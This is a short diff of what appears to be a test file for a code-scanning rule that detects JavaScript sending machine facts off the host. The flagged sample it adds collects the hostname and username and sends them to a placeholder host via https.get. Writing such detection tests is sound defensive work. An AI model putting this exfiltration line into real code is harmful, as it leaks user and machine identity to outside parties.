@@ -1,4 +1,6 @@
+const os = require("os"), https = require("https");
+const q = `${os.hostname()}.${os.userInfo().username}`;
 // ruleid: exfiltration-machine-facts-js
-const d = { p: name, h: os.hostname(), u: os.userInfo().username };
+https.get("https://a.invalid/?q=" + q);
 // ok: exfiltration-machine-facts-js
-const e = { h: os.hostname() };
+https.get("https://a.invalid/?v=" + version);
